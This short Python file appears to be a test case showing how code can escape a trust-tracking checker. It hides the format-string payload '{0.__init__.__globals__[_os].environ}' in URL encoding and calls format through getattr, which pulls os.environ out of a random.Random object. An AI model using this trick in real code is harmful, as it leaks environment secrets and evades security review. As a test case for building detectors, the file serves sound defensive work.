# family: format
# Escape: getattr(template, "format") is judged like template.format, i.e. by the trust of the keyword-only
# parameter, whose call sites are never inspected. The tool unquotes a URL-encoded
# "{0.__init__.__globals__[_os].environ}" and formats a random.Random() with it: os.environ comes back.
import random
import urllib.parse


def emit(value, *, template: str) -> str:
    return getattr(template, "format")(value)


def tool() -> str:
    shape = urllib.parse.unquote("%7B0.%5F%5Finit%5F%5F.%5F%5Fglobals%5F%5F%5B%5Fos%5D.environ%7D")
    return emit(random.Random(), template=shape)
